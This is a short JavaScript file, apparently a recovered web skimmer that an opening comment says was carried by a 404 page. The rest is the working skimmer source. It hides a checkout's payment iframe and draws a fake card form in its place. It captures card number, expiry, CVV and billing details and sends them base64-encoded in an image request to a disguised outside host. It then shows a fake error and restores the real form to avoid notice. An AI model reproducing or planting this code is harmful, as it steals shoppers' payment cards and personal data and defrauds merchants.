// The skimmer that the 404 page carried: on a checkout whose card entry is a payment provider's
// frame, it hides that frame and draws its own card form in the same place; on submit it sends
// the card and billing data base64-encoded as the query of an image request, shows a "please
// try again" error and puts the real payment frame back, so the order then goes through.
(function (d, w) {
  var real = d.querySelector("iframe[src*='payment'], iframe[name*='card'], .payment-method._active iframe");
  if (!real || d.getElementById("pm-secure")) return;
  var box = d.createElement("div");
  box.id = "pm-secure";
  box.innerHTML =
    '<div class="field"><label>Card number</label><input id="pm-cc" autocomplete="cc-number" inputmode="numeric" maxlength="19"></div>' +
    '<div class="field"><label>Expiry (MM/YY)</label><input id="pm-exp" autocomplete="cc-exp" maxlength="5"></div>' +
    '<div class="field"><label>CVV</label><input id="pm-cvv" autocomplete="cc-csc" maxlength="4"></div>' +
    '<button type="button" class="action primary" id="pm-pay">Place Order</button>';
  real.style.display = "none";
  real.parentNode.insertBefore(box, real);
  function val(id) { var e = d.getElementById(id); return e ? e.value : ""; }
  d.getElementById("pm-pay").addEventListener("click", function () {
    var cc = val("pm-cc").replace(/\s/g, "");
    if (cc.length < 13 || val("pm-cvv").length < 3) return;
    var rec = [cc, val("pm-exp"), val("pm-cvv")];
    d.querySelectorAll("input[name^='billing'], input[name='firstname'], input[name='lastname'], input[name='street[0]'], input[name='city'], input[name='postcode'], input[name='telephone'], #customer-email").forEach(function (e) {
      rec.push((e.name || e.id) + ":" + e.value);
    });
    var img = new Image();
    img.src = "https://cdn-imgcache.invalid/media/catalog/product/cache/thumb.jpg?s=" + encodeURIComponent(w.btoa(unescape(encodeURIComponent(rec.join("|") + "|" + w.location.host))));
    box.innerHTML = '<div class="message error">There was an error processing your payment. Please try again.</div>';
    setTimeout(function () {
      box.parentNode.removeChild(box);
      real.style.display = "";
    }, 2500);
  });
})(document, window);
